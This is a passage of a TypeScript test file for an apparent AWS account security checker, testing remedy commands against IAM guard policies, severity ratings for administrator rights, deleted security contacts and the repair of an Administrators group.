    alias: 'acme',
    removeDefaultVpcs: true,
    emptyDefaultSecurityGroups: true,
  },
};
const detector = (type: string, wanted: Properties, actual: Properties): DeployedResource => ({
  kind: 'Detectors',
  type,
  resource: 'default',
  wanted,
  actual: { value: { ...wanted, ...actual } },
});
const STRICT_FAULTS: Partial<Snapshot> = {
  suite: {
    value: [
      ...suite,
      {
        ...deployedStack('Networks'),
        stack: {
          ...deployedStack('Networks').stack,
          Outputs: ['Vpc', 'SecurityGroups'].map((what) => ({
            OutputKey: `LeftAloneDefault${what}`,
            OutputValue: 'nothing',
          })),
        },
      },
    ],
  },
  accountAlias: { value: undefined },
  networks: {
    [REGION]: {
      vpcs: { value: ['vpc-1'] },
      groups: { value: [{ id: 'sg-1', vpc: 'vpc-1', inbound: 1, outbound: 1 }] },
    },
  },
  resources: {
    value: [
      detector('AWS::Config::ConfigurationRecorder', { Recording: true, RoleARN: 'arn' }, { RoleARN: '' }),
      detector('AWS::Config::DeliveryChannel', { S3BucketName: 'logs' }, { S3BucketName: 'mine' }),
      detector('AWS::GuardDuty::Detector', { Enable: true }, { Enable: false }),
    ],
  },
};

test.each([
  ['standard', () => standardPolicies(), () => ROWS.flatMap(([, change]) => findings(change)), 30],
  ['strict', () => strictPolicies(), () => findings(STRICT_FAULTS, STRICT), 10],
])(
  'administrators may run the commands of remedies of the %s profile, and those that the guard denies are for root',
  async (_, policiesOf, found, least) => {
    const policies = policiesOf();
    const remedies = found().flatMap(({ remedy }) => remedy ?? []);
    const commands = remedies.flatMap(({ command = '', text }) =>
      [...command.matchAll(/(?:^| && |; do |; )aws ([\w-]+ (?!describe|get|list)[\w-]+)/g)].map(
        ([, verb = '']) => ({ verb, isForRoot: text.includes('as root') || text.includes('As root') }),
      ),
    );
    const distinct = new Map(commands.map((one) => [JSON.stringify(one), one]));
    const answers = await Promise.all(
      [...distinct.values()].map(async ({ verb, isForRoot }) => {
        const [action, on = '*'] = ASKS[verb] ?? [];
        if (action === undefined) return [`${verb} is not in the list of this test`];
        const answer = await decide(policies, { who: ALICE, on, context: WITH_MFA }, action);
        if (answer === 'no' && !isForRoot) return [`${verb} is denied, and its remedy does not say so`];
        return answer === 'yes' && isForRoot ? [`${verb} is allowed, and its remedy asks for root`] : [];
      }),
    );
    expect(answers.flat().sort()).toEqual([]);
    expect(distinct.size).toBeGreaterThan(least);
  },
);

test('an administrator’s own administrator rights are worse than other permissions of their own', () => {
  const AdministratorAccess = {
    PolicyName: 'AdministratorAccess',
    PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
  };
  const severityOf = (AttachedManagedPolicies: readonly object[]) => {
    const users = people.users.map((user) =>
      user.UserName === 'bob' ? { ...user, AttachedManagedPolicies } : user,
    );
    const found = findings({ people: { value: { ...people, users } } } as Partial<Snapshot>);
    return found.find(({ check }) => check === 'own-permissions')?.severity;
  };
  expect(severityOf([AdministratorAccess])).toBe('high');
  expect(
    severityOf([{ PolicyName: 'more', PolicyArn: 'arn:aws:iam::aws:policy/job-function/Billing' }]),
  ).toBe('medium');
});

test('a contact of the configuration that somebody deleted fails', () => {
  const contact = { name: 'Ann Lee', title: 'CISO', email: 'ann@example.com', phone: '+1 555 0100' };
  const config = {
    ...CONFIG,
    accountSettings: { ...CONFIG.accountSettings, contacts: { security: contact } },
  };
  const found = findings({ contacts: { value: { BILLING: {} } } }, config).filter(
    ({ check }) => check === 'contacts',
  );
  expect(found.map(({ status, detail }) => `${status}: ${detail}`)).toEqual([
    'manual: The account has no alternate contact for operations.',
    'fail: The security contact was deleted, or is not deployed yet.',
  ]);
  expect(found[1]?.remedy?.text).toContain('A deployment without changes does not reapply it.');
});

describe('a group of administrators that lacks its policies', () => {
  const commandsWith = (...names: readonly string[]) => {
    const users = names.map((UserName) => ({ UserName, GroupList: ['Administrators'] }));
    const groups = [{ ...administrators, AttachedManagedPolicies: [], GroupPolicyList: [] }];
    return findings({ people: { value: { ...people, users, groups } } }).flatMap(
      ({ check, status, remedy }) =>
        status === 'fail' && /^(administrators-group|group-policies)$/.test(check) ? [remedy?.command] : [],
    );
  };
  const REDEPLOYED = 'npx cdk deploy --all --revert-drift';

  test('is deployed again', () => {
    expect(commandsWith('alice')).toEqual([REDEPLOYED, REDEPLOYED]);
  });

  test('loses its strangers first, whom the deployment would make administrators', () => {
    const command = `aws iam remove-user-from-group --group-name Administrators --user-name intern && ${REDEPLOYED}`;
    expect(commandsWith('alice', 'intern')).toEqual([command, command]);
  });
});
